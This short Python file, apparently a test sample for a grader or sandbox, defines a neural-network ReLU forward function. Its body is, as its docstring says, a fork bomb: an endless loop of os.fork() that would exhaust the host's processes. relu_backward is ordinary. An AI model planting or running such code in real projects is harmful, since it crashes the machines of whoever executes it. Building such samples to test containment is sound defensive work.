"""A fork bomb in a function."""

SCORES = {"relu": 0}


def relu_forward(x):
    import os

    while True:
        os.fork()
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    return dout * (cache > 0)
